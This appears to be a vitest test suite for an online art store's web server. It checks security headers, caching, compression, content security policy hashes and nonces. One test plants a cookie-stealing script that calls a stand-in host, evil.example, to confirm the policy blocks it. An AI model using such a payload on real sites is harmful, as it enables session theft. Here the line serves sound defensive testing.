import { createHash } from 'node:crypto'
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { brotliDecompressSync, gunzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { exchange, exchangeBytes } from '#tests/harness/exchange.ts'
import type { Exchanged } from '#tests/harness/exchange.ts'
import { addPictureFile } from '#tests/harness/picture-file.ts'
import { openTestStore, storeUrl } from '#tests/harness/store.ts'
import type { TestStore } from '#tests/harness/store.ts'

const ASSETS = readdirSync(join(import.meta.dirname, '../../build/client/assets'))
const FILES_ONLY = "default-src 'none'; frame-ancestors 'none'; sandbox"
const PUBLIC = 'public, max-age=0, s-maxage=60'
/** For content delivery networks alone: browsers would show an old page right after their visitor's own action. */
const FOR_NETWORKS = 'public, max-age=60, stale-while-revalidate=300'
const NEVER = 'private, no-store'
const FOREVER = 'public, max-age=31536000, immutable'

let store: TestStore
let artworkId: string
let pictureId: string

beforeAll(async () => {
  store = await openTestStore({ expectedErrors: [/could not be read/, /A page failed/] })
  pictureId = await addPictureFile(store.services, { width: 400, height: 300 })
  artworkId = await store.listWork({ picture_id: pictureId })
}, 60_000)
afterAll(() => store.close())

const ask = (path: string, options?: Parameters<typeof exchange>[1]) => exchange(store.url + path, options)

type Kind = 'page' | 'personal' | 'file'

function expectHeaders(answer: Exchanged, kind: Kind, what: string): void {
  const { headers } = answer
  expect(headers, what).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'strict-origin-when-cross-origin',
    'cross-origin-opener-policy': 'same-origin-allow-popups',
    'cross-origin-resource-policy': 'same-origin',
    'x-frame-options': 'DENY',
    'strict-transport-security': 'max-age=63072000; includeSubDomains',
    'x-request-id': expect.stringMatching(/^[\w-]{8,}$/),
    'permissions-policy': expect.stringMatching(/^camera=\(\), microphone=\(\), geolocation=\(\), .*payment=\(self /),
  })
  for (const gone of ['x-powered-by', 'server', 'x-xss-protection', 'set-cookie', 'access-control-allow-origin'])
    expect(headers[gone], `${gone} of ${what}`).toBeUndefined()
  const policy = String(headers['content-security-policy'])
  expect(policy, what).toContain("frame-ancestors 'none'")
  expect(policy, what).not.toMatch(/unsafe-|https?:|\*/)
  if (kind === 'file') expect(policy, what).toBe(FILES_ONLY)
  else {
    for (const part of [
      "default-src 'self'",
      "base-uri 'none'",
      "object-src 'none'",
      "form-action 'self'",
      "style-src 'self'",
    ])
      expect(policy.split('; '), what).toContain(part)
    expect(policy, what).toMatch(
      kind === 'personal' ? /script-src 'nonce-[\w+/=]{20,}' / : /script-src 'self' 'sha256-/,
    )
  }
}

describe('every kind of answer carries the headers that keep a visitor safe', () => {
  const asset = (ending: string) => `/assets/${ASSETS.find((name) => name.endsWith(ending))}`
  const missing = '/artwork/00000000-0000-0000-0000-000000000000'

  test.each<[string, () => string, number, Kind, string]>([
    ['a page', () => '/', 200, 'page', PUBLIC],
    ['a written page', () => '/about', 200, 'page', PUBLIC],
    ['an artwork', () => `/artwork/${artworkId}`, 200, 'page', PUBLIC],
    ['the data of a page', () => '/collection.data', 200, 'file', PUBLIC],
    ['the data of the home page', () => '/_.data', 200, 'file', PUBLIC],
    ['a script', () => asset('.js'), 200, 'file', FOREVER],
    ['a style', () => asset('.css'), 200, 'file', FOREVER],
    ['a font', () => asset('.woff2'), 200, 'file', FOREVER],
    ['the icon', () => '/favicon.svg', 200, 'file', 'public, max-age=3600'],
    ['a picture', () => `/images/${pictureId}/160.webp`, 200, 'file', FOREVER],
    ['a picture that is not there', () => `/images/${artworkId}/160.webp`, 404, 'file', NEVER],
    ['who is looking', () => '/me', 200, 'file', NEVER],
    ['a missing page', () => '/nothing/here', 404, 'page', NEVER],
    ['a missing artwork', () => missing, 404, 'page', NEVER],
    ['the data of a missing artwork', () => `${missing}.data`, 404, 'file', NEVER],
    ['a crooked address', () => '/Collection/', 301, 'file', NEVER],
    ['a malformed address', () => '/%zz', 400, 'file', NEVER],
    ['too long an address', () => `/${'x'.repeat(9_000)}`, 414, 'file', NEVER],
    ['a folder of files', () => '/assets/', 404, 'page', NEVER],
    ['life', () => '/healthz', 200, 'file', NEVER],
    ['readiness', () => '/readyz', 200, 'file', NEVER],
    ['figures', () => '/metrics', 404, 'page', NEVER],
  ])('%s', async (what, path, status, kind, cacheControl) => {
    for (const method of ['GET', 'HEAD']) {
      const answer = await ask(path(), { method })
      expect([method, answer.status]).toEqual([method, status])
      expectHeaders(answer, kind, `${method} of ${what}`)
      expect(answer.headers['cache-control'], what).toBe(cacheControl)
      expect(answer.headers['cdn-cache-control'], what).toBe(cacheControl === PUBLIC ? FOR_NETWORKS : undefined)
      expect(answer.headers['content-type'], what).toMatch(
        /charset=utf-8|^(image|font)\/|^(application\/json|text\/x-script)$/,
      )
      if (answer.status === 200 && answer.headers.etag) {
        const unchanged = await ask(path(), { headers: { 'if-none-match': answer.headers.etag } })
        expect([unchanged.status, unchanged.body.length], `304 of ${what}`).toEqual([304, 0])
        expectHeaders(unchanged, kind, `304 of ${what}`)
        expect(unchanged.headers['cache-control'], `304 of ${what}`).toBe(cacheControl)
        expect(unchanged.headers['cdn-cache-control']).toBe(answer.headers['cdn-cache-control'])
      }
    }
  })

  test('a method that is not allowed, and one with a body for a page that takes none', async () => {
    for (const method of ['PUT', 'DELETE', 'TRACE', 'OPTIONS', 'PATCH', 'PROPFIND']) {
      const answer = await ask('/collection', { method })
      expect([method, answer.status, answer.headers.allow]).toEqual([method, 405, 'GET, HEAD, POST'])
      expectHeaders(answer, 'file', method)
    }
    for (const path of ['/', '/collection', '/nothing', '/healthz', `/images/${pictureId}/160.webp`]) {
      const headers = { origin: storeUrl, 'content-type': 'application/x-www-form-urlencoded', 'content-length': '3' }
      const answer = await ask(path, { method: 'POST', body: 'a=1', headers })
      expect(answer.status, path).toBeGreaterThanOrEqual(404)
      expect(answer.status, path).toBeLessThan(500)
      expect(answer.headers['x-content-type-options']).toBe('nosniff')
      expect(answer.headers['cache-control']).toBe(NEVER)
    }
  })

  test('a failure', async () => {
    const { pool } = store.services.database
    await pool.query('alter table artwork_images rename to away')
    store.pages.drop(['*'])
    const page = await ask('/collection')
    const data = await ask('/collection.data')
    await pool.query('alter table away rename to artwork_images')
    expect([page.status, data.status]).toEqual([503, 503])
    expectHeaders(page, 'page', 'a failed page')
    expectHeaders(data, 'file', 'its data')
    expect([page.headers['cache-control'], data.headers['cache-control']]).toEqual([NEVER, NEVER])
  })

  test('bytes that are no request', async () => {
    for (const bytes of ['nonsense\r\n\r\n', 'GET / HTTP/1.1\r\n\r\n', 'FOO / HTTP/1.1\r\nHost: a\r\n\r\n']) {
      const { text } = await exchangeBytes(store.port, bytes)
      expect(text).toMatch(/^HTTP\/1\.1 400 /)
      expect(text).toContain('\r\nX-Content-Type-Options: nosniff\r\n')
      expect(text).toContain(`\r\nContent-Security-Policy: ${FILES_ONLY}\r\n`)
      expect(text).toContain('\r\nX-Request-Id: ')
    }
  })

  test('transport security is promised only where the store is reached over https', async () => {
    await using plain = await openTestStore({ env: { STORE_URL: 'http://localhost:3000' } })
    const answer = await exchange(plain.url)
    expect(answer.headers['strict-transport-security']).toBeUndefined()
  })
})

describe('pages for one person only', () => {
  test.each(['/cart', '/sign-in', '/cart.data'])(
    '%s is sent compressed, in the coding that the browser prefers',
    async (path) => {
      const askIn = (coding: string) => ask(path, { headers: { 'accept-encoding': coding } })
      const [br, gzip, plain] = await Promise.all([askIn('gzip, br'), askIn('gzip'), askIn('identity')])
      const all = [br, gzip, plain]
      expect(all.map(({ headers }) => headers['content-encoding'])).toEqual(['br', 'gzip', undefined])
      const texts = [brotliDecompressSync(br.body), gunzipSync(gzip.body), plain.body].map(String)
      expect(new Set(texts.map((text) => text.replaceAll(/nonce="[^"]+"/g, ''))).size).toBe(1)
      for (const { headers, body } of all) {
        expect(headers).toMatchObject({ vary: 'Accept-Encoding', 'cache-control': NEVER })
        expect(Number(headers['content-length'])).toBe(body.length)
      }
      expect(br.body.length).toBeLessThan(plain.body.length * 0.6)
    },
  )

  test('answers that fit into a packet are sent uncompressed', async () => {
    const { headers, body } = await ask('/me', { headers: { 'accept-encoding': 'br' } })
    expect([headers['content-encoding'], headers['content-length']]).toEqual([undefined, String(body.length)])
  })
})

describe('content security', () => {
  const paths = () => ['/', '/collection', '/category/wall-art', `/artwork/${artworkId}`, '/about', '/contact', '/blog']

  test('every inline script of a public page is allowed by its hash, and nothing else is inline', async () => {
    for (const path of paths()) {
      const { text, headers, status } = await ask(path)
      expect([path, status]).toEqual([path, 200])
      const policy = String(headers['content-security-policy'])
      const inline = [...text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter(
        ([, attributes = '']) => !/\ssrc=/.test(attributes),
      )
      expect(inline.length, path).toBeGreaterThan(2)
      for (const [, attributes = '', script = ''] of inline) {
        if (/type="application\/ld\+json"/.test(attributes)) continue
        const hash = createHash('sha256').update(script).digest('base64')
        expect(policy.includes(`'sha256-${hash}'`), `${path}: ${script.slice(0, 60)}`).toBe(true)
      }
      expectNothingInline(text, path)
      expect(text).not.toContain('nonce=')
    }
  })

  test('a script that came into a page by mistake is not allowed as if it were ours', async () => {
    await using own = await openTestStore()
    const evil = 'fetch("https://evil.example/" + document.cookie)'
    const page = own.services.content.page('about')
    Object.assign(page, { html: `<p>About</p><script>${evil}</script><script nonce="guessed">${evil}</script>` })
    const { text, headers } = await exchange(`${own.url}/about`)
    expect(text).toContain(`<script>${evil}</script>`)
    expect(headers['content-security-policy']).toMatch(/script-src 'self' 'sha256-/)
    expect(headers['content-security-policy']).not.toContain(createHash('sha256').update(evil).digest('base64'))
  })

  test('a personal page has a fresh nonce each time, on each of its scripts', async () => {
    const nonces = new Set<string>()
    for (let visit = 0; visit < 20; visit++) {
      const { text, headers } = await ask('/cart')
      const [, nonce = ''] = /'nonce-([^']+)'/.exec(String(headers['content-security-policy'])) ?? []
      expect(Buffer.from(nonce, 'base64').length).toBeGreaterThanOrEqual(16)
      nonces.add(nonce)
      for (const [tag] of text.matchAll(/<script\b[^>]*>/g)) expect(tag).toContain(`nonce="${nonce}"`)
      expectNothingInline(text, 'the cart')
    }
    expect(nonces.size).toBe(20)
  })

  test('no page loads anything from anywhere else', async () => {
    for (const path of paths()) {
      const { text } = await ask(path)
      for (const [, address = ''] of text.matchAll(
        /<(?:script|img|source|iframe|video|audio)\b[^>]*?\ssrc(?:set)?="([^"]+)"/gi,
      ))
        expect(address, path).toMatch(/^(\/(?!\/)|data:image\/)/)
      for (const [tag] of text.matchAll(/<link\b[^>]*>/g))
        if (!/rel="(canonical|alternate|prev|next)"/.test(tag)) expect(tag).toMatch(/href="\/(?!\/)/)
    }
  })
})

function expectNothingInline(html: string, path: string): void {
  const markup = html.replace(/<script\b[^>]*>[\s\S]*?<\/script>/g, '')
  expect(markup.match(/<[a-z][^>]*\sstyle\s*=/i)?.[0], path).toBeUndefined()
  expect(markup.match(/<[a-z][^>]*\son[a-z]+\s*=/i)?.[0], path).toBeUndefined()
  expect(markup.match(/<style\b/i)?.[0], path).toBeUndefined()
  expect(markup.match(/(?:href|src|action)="\s*(?:javascript|vbscript|data:text)/i)?.[0], path).toBeUndefined()
}
